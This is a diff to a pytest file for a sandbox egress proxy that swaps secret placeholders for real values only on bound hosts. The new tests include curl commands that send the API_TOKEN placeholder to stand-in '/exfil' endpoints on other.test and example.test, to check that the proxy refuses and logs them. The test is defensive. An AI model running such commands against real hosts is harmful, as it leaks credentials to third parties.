@@ -6,7 +6,12 @@ Hosts without a rule keep their own certificate; a Host header that is not the T
 name is 421; an upstream whose certificate does not verify fails closed; QUIC to an
 inspected host is refused so clients fall back to TCP. The HTTPS hosts are loopback
 listeners behind the test map (tests/networld.py) that answer with what they received,
-the Authorization header only as its SHA-256. One sandbox serves every check."""
+the Authorization header only as its SHA-256. One sandbox serves every check.
+
+The guest's environment holds the secret's placeholder (`API_TOKEN`), never its value:
+hutch fills it in where the guest itself sends it to a host the secret is bound to (here
+by inspect.test's rule), and resets or refuses any request that carries it elsewhere
+(other.test, inspected without the secret; plain HTTP), logging why."""
 
 import hashlib
 import json
@@ -16,7 +21,7 @@ import pytest
 from e2b import CommandExitException, Sandbox, Secret
 
 from conftest import wait_until
-from networld import UNTRUSTED
+from networld import OTHER, UNTRUSTED, WEB
 
 SECRET_NAME = "hutch-inspection-token"
 SECRET_VALUE = "sk-hutch-inspect-" + secrets.token_hex(12)
@@ -39,6 +44,9 @@ def fetch(url, headers):
     # The guest's own trust store, as any Python program gets it (SSL_CERT_FILE).
     with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as r:
         return json.loads(r.read())
+
+def fetch_env(url, header, var):
+    return fetch(url, {header: os.environ[var]})
 
 def peer(host, path, headers):
     # Not verified: plain.test's real certificate is signed by a CA the guest does not
@@ -103,6 +111,9 @@ print(json.dumps(globals()[sys.argv[1]](*json.loads(sys.argv[2]))))
 
 # Node 18's global fetch (undici), which reads NODE_EXTRA_CA_CERTS.
 NODE_FETCH = 'fetch("https://inspect.test/node").then(r => r.text()).then(t => process.stdout.write(t))'
+# The same with the guest's own placeholder in a header it chose.
+NODE_FETCH_ENV = ('fetch("https://inspect.test/env-node", {headers: {"X-Api-Key": process.env.API_TOKEN}})'
+                  '.then(r => r.text()).then(t => process.stdout.write(t))')
 
 
 @pytest.fixture(scope="module")
@@ -115,7 +126,7 @@ def secret(server):
 @pytest.fixture(scope="module")
 def sbx(server, net_world, secret):
     network = {
-        "allow_out": ["inspect.test", "plain.test", "untrusted.test"],
+        "allow_out": ["inspect.test", "plain.test", "untrusted.test", "other.test", "example.test"],
         "deny_out": ["0.0.0.0/0"],
         "rules": {
             "inspect.test": [{"transform": {"headers": {
@@ -123,9 +134,10 @@ def sbx(server, net_world, secret):
                 "Authorization": f"Bearer {Secret.fill(secret.name)}",
             }}}],
             "untrusted.test": [{"transform": {"headers": {"X-Hutch-Test": "x"}}}],
+            "other.test": [{}],
         },
     }
-    s = Sandbox.create("base", network=network, timeout=900)
+    s = Sandbox.create("base", network=network, envs={"API_TOKEN": Secret.fill(secret.name)}, timeout=900)
     try:
         s.files.write("/tmp/probe.py", PROBE)
         yield s
@@ -200,7 +212,8 @@ def test_an_inspected_host_shows_hutchs_certificate_and_others_their_own(sbx, ne
     assert fields(inspected["body"], INSPECTED) == INSPECTED, inspected
     # No rule: the bytes pass untouched, the server's own certificate and headers.
     assert plain["cert_sha256"] == net_world.plain_cert_sha256
-    assert plain["body"] == {"server": "plain", "path": "/peer", "host": "plain.test", "x_hutch_test": "guest", "authorization_sha256": None}
+    assert plain["body"] == {"server": "plain", "path": "/peer", "host": "plain.test", "x_hutch_test": "guest",
+                             "authorization_sha256": None, "x_api_key_sha256": None}
 
 
 def test_a_host_header_other_than_the_tls_name_is_421_and_not_forwarded(sbx, net_world):
@@ -232,3 +245,43 @@ def test_quic_to_an_inspected_host_is_refused(sbx, net_world):
     # Port unreachable at once, so clients fall back to TCP; and nothing was dialed.
     assert r.get("err") == "ECONNREFUSED" and r["ms"] < 1000, r
     assert net_world.violation_lines() == before
+
+
+def denials(server, sbx) -> list[dict]:
+    return server.api().get(f"/sandboxes/{sbx.sandbox_id}/network").json()["log"]["denials"]
+
+
+def test_the_guests_own_placeholder_is_filled_in_on_a_bound_host(sbx, secret):
+    code, out, err = guest(sbx, " && ".join([
+        "printenv API_TOKEN",
+        'curl -sS --max-time 30 -H "X-Api-Key: $API_TOKEN" https://inspect.test/env-curl',
+        probe_command("fetch_env", "https://inspect.test/env-urllib", "X-Api-Key", "API_TOKEN"),
+        f"node -e '{NODE_FETCH_ENV}'",
+    ]))
+    assert code == 0, err
+    placeholder, *answers = out.splitlines()
+    assert placeholder == Secret.fill(secret.name)
+    got = json_lines("\n".join(answers))
+    assert [g["path"] for g in got] == ["/env-curl", "/env-urllib", "/env-node"], out
+    want = hashlib.sha256(SECRET_VALUE.encode()).hexdigest()
+    for g in got:
+        assert g["x_api_key_sha256"] == want, g
+        assert fields(g, INSPECTED) == INSPECTED, g
+
+
+def test_the_placeholder_sent_anywhere_else_is_refused_and_logged(server, sbx, net_world):
+    # other.test is inspected, but the secret is not bound to it: 403 from hutch, nothing sent.
+    code, out, err = guest(sbx, 'curl -sS --max-time 30 -o /dev/null -w "%{http_code}" -H "X-Api-Key: $API_TOKEN" https://other.test/exfil')
+    assert (code, out) == (0, "403"), (code, out, err)
+    assert net_world.tls_requests("other") == []
+    # Plain HTTP, URL-encoded in the query: the connection is reset before the request leaves.
+    code, out, err = guest(sbx, 'curl -sS --max-time 30 -G --data-urlencode "k=$API_TOKEN" http://example.test/exfil')
+    assert code != 0 and "echo" not in out, (code, out, err)
+    assert not [p for p in net_world.web.paths if p.startswith("/exfil")], net_world.web.paths
+
+    def logged():
+        d = denials(server, sbx)
+        return (any(x.get("ip") == OTHER and "not bound to other.test" in x["message"] for x in d)
+                and any(x["reason"]["kind"] == "placeholder" and x.get("ip") == WEB and x.get("port") == 80 for x in d))
+    wait_until(logged, "both refusals in the network log", timeout=15, detail=lambda: denials(server, sbx))
+    assert SECRET_VALUE not in json.dumps(denials(server, sbx))
